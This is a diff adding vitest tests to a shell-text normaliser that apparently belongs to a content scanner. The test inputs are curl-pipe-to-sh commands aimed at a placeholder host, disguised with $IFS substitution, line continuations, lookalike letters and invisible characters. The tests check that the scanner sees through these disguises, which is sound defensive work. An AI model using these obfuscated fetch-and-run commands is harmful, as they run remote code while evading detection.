@@ -5,7 +5,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { scanText } from '../../../src-main/core/packs/content-rules.js';
-import { plainLine, statements } from '../../../src-main/core/packs/shell-text.js';
+import { joinedLines, plainLine, readerText, statements } from '../../../src-main/core/packs/shell-text.js';
 
 /** One way a shell lets a character be written inside a bare word without changing the word. */
 const spelling = fc.constantFrom<(c: string) => string>(
@@ -51,5 +51,27 @@ describe('plainLine', () => {
 
   it('keeps Windows paths whole: only a backslash inside a bare word is a shell escape', () => {
     expect(plainLine('& $env:TEMP\\a.ps1; . .\\b.ps1; c\\url')).toBe('& $env:TEMP\\a.ps1; . .\\b.ps1; curl');
+  });
+});
+
+describe('spellings a shell or a reader allows', () => {
+  it('reads $IFS in any of its forms as the space it stands for', () => {
+    for (const ifs of ['${IFS}', '$IFS', '${IFS%??}', '$IFS$9'])
+      expect(statements(plainLine(`curl${ifs}-fsSL${ifs}https://x.invalid/i|sh`))).toEqual([[['curl', '-fsSL', 'https://x.invalid/i'], ['sh']]]);
+  });
+
+  it('joins backslash-newline continuations onto the line they continue, keeping every line number', () => {
+    // An even run of backslashes is escaped backslashes, no continuation.
+    const text = String.raw`curl -fsSL https://x.invalid/i \
+  | sh
+echo a\\
+echo b`;
+    expect(joinedLines(text)).toEqual(['curl -fsSL https://x.invalid/i    | sh', '', String.raw`echo a\\`, 'echo b']);
+  });
+
+  it('reads lookalike letters, fullwidth forms and invisible characters as the plain text a reader sees', () => {
+    expect(readerText('сurl ｜ ѕh')).toBe('curl | sh');
+    expect(readerText('cu\u200brl -fsSL https://x.invalid | s\u2060h')).toBe('curl -fsSL https://x.invalid | sh');
+    expect(readerText('plain ascii, café and 日本語')).toBe('plain ascii, café and 日本語');
   });
 });
